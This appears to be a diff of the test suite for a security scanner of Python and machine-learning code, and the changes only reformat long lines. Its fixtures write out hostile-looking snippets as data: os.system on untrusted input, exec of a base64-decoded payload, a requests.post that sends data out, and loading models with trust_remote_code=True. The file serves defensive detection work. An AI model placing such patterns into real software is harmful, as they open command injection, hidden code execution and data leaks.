@@ -120,7 +120,12 @@ describe('what only later happens', () => {
     ['a handler', 'import os\ndef handle(data, context):\n  os.system(data)', 'MDL-PY-010', 'high'],
     ['a function', 'import os\ndef helper():\n  os.system("id")', 'MDL-PY-011', 'medium'],
     ['a main block', 'import os\nif __name__ == "__main__":\n  os.system("id")', 'MDL-PY-011', 'medium'],
-    ['decoded code in a constructor', `import base64\nclass M:\n  def __init__(self):\n    exec(base64.b64decode("${payload}"))`, 'MDL-PY-001', 'critical'],
+    [
+      'decoded code in a constructor',
+      `import base64\nclass M:\n  def __init__(self):\n    exec(base64.b64decode("${payload}"))`,
+      'MDL-PY-001',
+      'critical',
+    ],
     ['decoded code in a function', `import base64\ndef f():\n  exec(base64.b64decode("${payload}"))`, 'MDL-PY-001', 'high'],
     ['data sent by a function', 'import requests\ndef f(x):\n  requests.post("http://x", data=x)', 'MDL-PY-012', 'medium'],
     ['a download by a function', 'import requests\ndef f(x):\n  return requests.get(x)', 'MDL-PY-012', 'low'],
@@ -137,7 +142,12 @@ describe('the development stage', () => {
   test.each([
     ['an AI package', 'import openai', 'MDL-DEV-001', 'info'],
     ['an open download', 'from transformers import AutoModel\nAutoModel.from_pretrained("org/model")', 'MDL-DEV-002', 'low'],
-    ['trusted code', 'from transformers import AutoModel\nAutoModel.from_pretrained("org/model", trust_remote_code=True)', 'MDL-DEV-003', 'high'],
+    [
+      'trusted code',
+      'from transformers import AutoModel\nAutoModel.from_pretrained("org/model", trust_remote_code=True)',
+      'MDL-DEV-003',
+      'high',
+    ],
     [
       'trusted code of a commit',
       `from transformers import AutoModel\nAutoModel.from_pretrained("o/m", trust_remote_code=True, revision="${'a1'.repeat(20)}")`,
@@ -200,7 +210,9 @@ test('a file that Python would refuse is said to be so, and the rest is read', (
 });
 
 const libraries = '/usr/lib/python3/dist-packages';
-const modelling = ['torch/nn/modules', 'torch/optim', 'sklearn/linear_model', 'sklearn/ensemble', 'sklearn/neural_network'].map((name) => join(libraries, name));
+const modelling = ['torch/nn/modules', 'torch/optim', 'sklearn/linear_model', 'sklearn/ensemble', 'sklearn/neural_network'].map((name) =>
+  join(libraries, name),
+);
 
 describe.skipIf(!modelling.every((folder) => existsSync(folder)))('code of torch and scikit-learn on this machine', () => {
   test('raises no alarm', () => {
